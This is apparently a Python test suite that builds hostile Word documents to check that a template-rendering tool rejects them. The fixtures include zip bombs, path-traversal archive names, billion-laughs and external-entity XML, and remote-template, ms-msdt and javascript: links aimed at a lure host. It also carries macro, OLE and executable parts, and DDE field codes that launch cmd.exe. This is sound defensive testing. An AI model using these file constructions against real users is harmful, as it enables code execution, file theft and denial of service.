"""Word files that are traps: archives, XML, encodings, and what leads outside or holds a program."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from html import escape

from hostile.case import Case, Files, Lure, Printed, Refused
from hostile.samples import COMPLETE
from hostile.word_templates import COMMAND
from rendering.word.packages import (
    BODY_PART,
    NAMESPACES,
    WML,
    Relation,
    paragraph,
    read,
    rels,
    run,
    word_file,
)

SHOWN = "Organisme d’essai"
GOOD = word_file(paragraph("{{ porteur.nom }}"), header=paragraph("y"))

Make = Callable[[Lure], bytes]


def case(name: str, make: Make | bytes, outcome: Refused | Printed, **bounds: float) -> Case:
    """Make a case of a Word file used as the template of the convention."""

    def files(lure: Lure) -> Files:
        content = make if isinstance(make, bytes) else make(lure)
        return {"dossier.json": COMPLETE, "gabarits/convention.docx": content}

    return Case(f"docx-{name}", files, COMMAND, outcome, **bounds)  # type: ignore[arg-type]


# --- archives


def zipped(members: Mapping[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=9) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def members_of(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def with_members(added: Mapping[str, bytes]) -> bytes:
    return zipped({**members_of(GOOD), **added})


def with_flag(flag: int) -> bytes:
    at = GOOD.rindex(b"PK\x01\x02") + 8
    return GOOD[:at] + struct.pack("<H", flag) + GOOD[at + 2 :]


def with_entry_field(offset: int, value: bytes) -> bytes:
    """Change a field of the last entry of the directory."""
    at = GOOD.rindex(b"PK\x01\x02") + offset
    return GOOD[:at] + value + GOOD[at + len(value) :]


def twice(name: str) -> bytes:
    """An archive with a member of a name that another has, in its directory as in its members."""
    other = "word/documenu.xml"
    assert len(other) == len(BODY_PART)
    content = zipped({**members_of(GOOD), other: b"<w/>"})
    return content.replace(other.encode(), name.encode())


def overlapping() -> bytes:
    """Four thousand entries of the directory for the same member."""
    content = zipped({"a.xml": b"<a/>" + b" " * 1_000_000})
    start = content.index(b"PK\x01\x02")
    entry = content[start : content.index(b"PK\x05\x06")]
    entries = b"".join(entry.replace(b"a.xml", f"{rank:05d}".encode()) for rank in range(4000))
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 4000, 4000, len(entries), start, 0)
    return content[:start] + entries + end


ARCHIVES: Mapping[str, bytes] = {
    "empty": b"",
    "no-archive": b"Bonjour",
    "pdf": b"%PDF-1.7\n%%EOF",
    "old-word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096),
    "truncated": GOOD[: len(GOOD) // 2],
    "without-directory": GOOD[: GOOD.index(b"PK\x01\x02")],
    "encrypted": with_flag(1),
    "wrong-checksum": with_entry_field(16, b"\0\0\0\0"),
    "wrong-size": with_entry_field(24, b"\1\0\0\0"),
    "wrong-offset": with_entry_field(42, b"\xff\xff\xff\x7f"),
    "unknown-method": with_entry_field(10, b"\x0c\0"),
    "bomb": with_members({"word/media/image1.bmp": bytes(60_000_000)}),
    "bomb-in-body": zipped({**members_of(GOOD), BODY_PART: b"<w>" + b" " * 60_000_000 + b"</w>"}),
    "bomb-of-many": zipped({**members_of(GOOD), **{f"m{rank}.bin": bytes(1_000_000) for rank in range(400)}}),
    "many-members": zipped({**members_of(GOOD), **{f"m{rank}": b"" for rank in range(5000)}}),
    "overlapping": overlapping(),
    "nested-only": zipped({"archive.zip": GOOD}),
    "twice-the-body": twice(BODY_PART),
    "twice-but-for-case": twice("word/Document.xml"),
    "name-up": with_members({"../../../../tmp/piege.xml": b"<a/>"}),
    "name-up-windows": with_members({"word\\..\\..\\piege.xml": b"<a/>"}),
    "name-absolute": with_members({"/etc/piege.xml": b"<a/>"}),
    "name-drive": with_members({"C:/piege.xml": b"<a/>"}),
    "name-null": with_members({"word/\x01.xml": b"<a/>"}),
    "no-content-types": zipped({name: part for name, part in members_of(GOOD).items() if "Content" not in name}),
    "no-body": zipped({name: part for name, part in members_of(GOOD).items() if name != BODY_PART}),
    "a-workbook": zipped({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"}),
}

# --- XML

LAUGHS = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True)
)


def body_part(inside: str) -> str:
    return f"<w:document {NAMESPACES}><w:body>{inside}<w:sectPr/></w:body></w:document>"


def body_is(xml: bytes | str) -> bytes:
    return word_file(parts={BODY_PART: xml})


def renamed_body(name: str, xml: str) -> bytes:
    """A file whose body bears another name: it is told by its type, and by what leads to it."""
    members = members_of(GOOD)
    members[name] = xml.encode()
    for part in ("[Content_Types].xml", "_rels/.rels"):
        members[part] = members[part].replace(BODY_PART.encode(), name.encode())
    members[f"word/_rels/{name.rpartition('/')[2]}.rels"] = members.pop("word/_rels/document.xml.rels")
    return zipped(members)


XML: Mapping[str, bytes] = {
    "laughs": body_is(f"{LAUGHS}]>{body_part(paragraph('&j;'))}"),
    "laughs-in-styles": word_file(paragraph("x"), parts={"word/styles.xml": f"{LAUGHS}]><w>&j;</w>"}),
    "laughs-under-another-name": renamed_body("word/document.dat", f"{LAUGHS}]>{body_part(paragraph('&j;'))}"),
    "quadratic": body_is(
        f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>{body_part(paragraph("&a;" * 50_000))}',
    ),
    "deep": body_is(body_part("<w:p>" * 10_000 + "</w:p>" * 10_000)),
    "deep-tables": body_is(
        body_part(
            "<w:tbl><w:tr><w:tc>" * 200 + paragraph("x") + f"</w:tc></w:tr></w:tbl>{paragraph('')}" * 200,
        )
    ),
    "many-elements": body_is(body_part("<w:p/>" * 1_500_000)),
    "not-closed": body_is(f"<w:document {NAMESPACES}><w:body>"),
    "wrong-root": body_is(f"<w:styles {NAMESPACES}/>"),
    "no-xml": body_is(b"\0\1\2"),
    "empty-body": body_is(b""),
    "wrong-encoding": body_is(
        f'<?xml version="1.0" encoding="UTF-8"?>{body_part(paragraph("é"))}'.encode("latin-1"),
    ),
    "unknown-encoding": body_is(f'<?xml version="1.0" encoding="x-piege"?>{body_part(paragraph("x"))}'.encode()),
    "utf-7": body_is(b'<?xml version="1.0" encoding="UTF-7"?>+ADw-w/+AD4-'),
    "twice-an-attribute": body_is(body_part('<w:p w:a="1" w:a="2"/>')),
    "unknown-prefix": body_is(body_part("<piege:p/>")),
    "huge-attribute": body_is(body_part(f'<w:p w:rsidR="{"a" * 40_000_000}"/>')),
}


def external_entity(lure: Lure) -> bytes:
    return body_is(f'<!DOCTYPE w [<!ENTITY x SYSTEM "{lure.file_address}">]>{body_part(paragraph("&x;"))}')


def external_dtd(lure: Lure) -> bytes:
    return body_is(f'<!DOCTYPE w SYSTEM "{lure.address}">{body_part(paragraph("x"))}')


def external_parameter(lure: Lure) -> bytes:
    return word_file(
        paragraph("x"), parts={"word/styles.xml": f'<!DOCTYPE w [<!ENTITY % x SYSTEM "{lure.address}"> %x;]><w/>'}
    )


# --- what leads outside


def linked(kind: str, target: str) -> Make:
    def make(lure: Lure) -> bytes:
        address = target.replace("{adresse}", lure.address).replace("{fichier}", lure.file_address)
        return word_file(paragraph("x"), relations=[Relation("rId9", kind, address, external=True)])

    return make


LINKS: Mapping[str, tuple[str, str]] = {
    "template": ("attachedTemplate", "{adresse}/x.dotm"),
    "template-share": ("attachedTemplate", r"\\127.0.0.1\partage\x.dotm"),
    "template-file-share": ("attachedTemplate", "file://127.0.0.1/partage/x.dotm"),
    "image": ("image", "{adresse}/x.png"),
    "image-file": ("image", "{fichier}"),
    "image-share": ("image", r"\\127.0.0.1\partage\x.png"),
    "ole": ("oleObject", "{adresse}/x.xls"),
    "ole-moniker": ("oleObject", "mhtml:{adresse}!x-usc:{adresse}"),
    "frame": ("frame", "{adresse}"),
    "sub-document": ("subDocument", "autre.docx"),
    "chunk": ("aFChunk", "{adresse}/x.html"),
    "font": ("font", "{adresse}/x.odttf"),
    "audio": ("audio", "{adresse}/x.mp3"),
    "video": ("video", "{adresse}/x.mp4"),
    "mail-merge": ("mailMergeSource", "{fichier}"),
    "settings": ("settings", "{adresse}/settings.xml"),
    "header": ("header", "{adresse}/header.xml"),
    "script": ("hyperlink", "javascript:alert(1)"),
    "script-vb": ("hyperlink", "vbscript:x"),
    "script-spaced": ("hyperlink", " javascript:alert(1)"),
    "script-tabbed": ("hyperlink", "java&#9;script:alert(1)"),
    "link-data": ("hyperlink", "data:text/html,x"),
    "link-office": ("hyperlink", "ms-word:ofe|u|{adresse}"),
    "link-diagnostic": ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link-search": ("hyperlink", "search-ms:query=x&amp;crumb=location:\\\\127.0.0.1"),
}


def with_related(kind: str, name: str, content: bytes | str, media: str) -> bytes:
    """A file with a part of a kind, inside it."""
    types = read(GOOD, "[Content_Types].xml").replace(
        "</Types>", f'<Override PartName="/{name}" ContentType="{media}"/></Types>'
    )
    target = name.removeprefix("word/")
    return word_file(
        paragraph("{{ porteur.nom }}"),
        header=paragraph("y"),
        relations=[Relation("rId9", kind, target)],
        parts={name: content, "[Content_Types].xml": types.encode()},
    )


MICROSOFT = "http://schemas.microsoft.com/office"
PROGRAMS: Mapping[str, bytes] = {
    "macros": with_related(
        f"{MICROSOFT}/2006/relationships/vbaProject",
        "word/vbaProject.bin",
        b"x",
        "application/vnd.ms-office.vbaProject",
    ),
    "macros-under-another-name": with_related(
        f"{MICROSOFT}/2006/relationships/vbaProject", "word/image1.png", b"x", "application/vnd.ms-office.vbaProject"
    ),
    "macro-enabled": word_file(
        paragraph("x"),
        parts={
            "[Content_Types].xml": read(GOOD, "[Content_Types].xml")
            .replace(f"{WML}.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml")
            .encode()
        },
    ),
    "ole": with_related("oleObject", "word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0", f"{WML}.oleObject"),
    "package": with_related("package", "word/embeddings/piege.exe", b"MZ", "application/octet-stream"),
    "control": with_related("control", "word/activeX/activeX1.xml", "<a/>", "application/vnd.ms-office.activeX+xml"),
    "chunk-html": with_related("aFChunk", "word/chunk.html", b"<script>1</script>", "text/html"),
    "chunk-archive": with_related("aFChunk", "word/chunk.docx", GOOD, f"{WML}.document.main+xml"),
    "web-extension": with_related(
        f"{MICROSOFT}/2011/relationships/webextensiontaskpanes",
        "word/webextensions/taskpanes.xml",
        "<a/>",
        "application/vnd.ms-office.webextensiontaskpanes+xml",
    ),
    "ribbon": with_related(
        f"{MICROSOFT}/2007/relationships/ui/extensibility", "customUI/customUI14.xml", "<a/>", "application/xml"
    ),
}

# --- fields that fetch or run


def field(code: str) -> str:
    """A field, its code cut over two runs as Word does."""
    half = len(code) // 2
    pieces = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(text)}</w:instrText></w:r>'
        for text in (code[:half], code[half:])
    )
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "separate", "end"))
    return f"{begin}{pieces}{middle}{run('x')}{end}"


FIELDS: Mapping[str, str] = {
    "dde": 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
    "dde-plain": 'DDE excel "/k calc"',
    "picture": 'INCLUDEPICTURE "{adresse}" \\d',
    "picture-lower": 'includepicture "{adresse}"',
    "text": 'INCLUDETEXT "{fichier}"',
    "import": 'IMPORT "{adresse}"',
    "link": 'LINK Excel.Sheet.8 "{fichier}" A1',
    "referenced": 'RD "{fichier}"',
    "database": 'DATABASE \\d "{fichier}"',
    "html-control": "HTMLCONTROL x",
}
"""Field codes: what Word fetches, runs or rewrites when the document is opened or printed."""


def with_field(code: str) -> Make:
    def make(lure: Lure) -> bytes:
        written = code.replace("{adresse}", lure.address).replace("{fichier}", lure.path)
        return word_file(paragraph(field(written)))

    return make


def simple_field(lure: Lure) -> bytes:
    code = f"INCLUDEPICTURE &quot;{lure.address}&quot;"
    return word_file(f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def field_in_header(lure: Lure) -> bytes:
    return word_file(paragraph("x"), header=paragraph(field(f"INCLUDEPICTURE {lure.address}")))


def upper_relations(lure: Lure) -> bytes:
    """Relations under a name that Word takes for the usual one: names of parts have no case."""
    members = members_of(GOOD)
    link = Relation("rId9", "attachedTemplate", f"{lure.address}/x.dotm", external=True)
    members["word/_rels/DOCUMENT.XML.RELS"] = rels([link]).encode()
    return zipped(members)


def lower_mode(lure: Lure) -> bytes:
    link = rels([Relation("rId9", "image", f"{lure.address}/x.png", external=True)])
    return word_file(paragraph("x"), parts={"word/_rels/document.xml.rels": link.replace("External", "external")})


def wide(text: str) -> bytes:
    return body_is(f'<?xml version="1.0" encoding="UTF-16"?>{body_part(paragraph(text))}'.encode("utf-16"))


KEPT: Mapping[str, bytes] = {
    "utf-16": wide("{{ porteur.nom }} é"),
    "page-field": word_file(paragraph(field("PAGE"), "{{ porteur.nom }} é")),
    "link": word_file(
        paragraph("{{ porteur.nom }} é"),
        relations=[Relation("rId9", "hyperlink", "https://exemple.invalid/", external=True)],
    ),
    "nested-archive-as-picture": with_related("image", "word/media/image1.png", GOOD, "image/png"),
}

_REFUSED = Refused(4, r"convention\.docx|fichier|archive|document Word")

CASES = (
    *(case(f"archive-{name}", content, _REFUSED, megabytes=320) for name, content in ARCHIVES.items()),
    *(case(f"xml-{name}", content, _REFUSED, megabytes=320) for name, content in XML.items()),
    case("xml-external-entity", external_entity, _REFUSED),
    case("xml-external-dtd", external_dtd, _REFUSED),
    case("xml-external-parameter", external_parameter, _REFUSED),
    *(case(f"lien-{name}", linked(*link), Refused(4, "hors de lui-même")) for name, link in LINKS.items()),
    case("lien-upper-relations", upper_relations, Refused(4, "hors de lui-même|deux fois")),
    case("lien-lower-mode", lower_mode, Refused(4, "hors de lui-même")),
    *(case(f"programme-{name}", content, Refused(4, "macros|programme|.docx")) for name, content in PROGRAMS.items()),
    *(case(f"champ-{name}", with_field(code), Refused(4, "champ")) for name, code in FIELDS.items()),
    case("champ-simple", simple_field, Refused(4, "champ")),
    case("champ-header", field_in_header, Refused(4, "champ")),
    *(case(f"garde-{name}", content, Printed((SHOWN,))) for name, content in KEPT.items()),
)
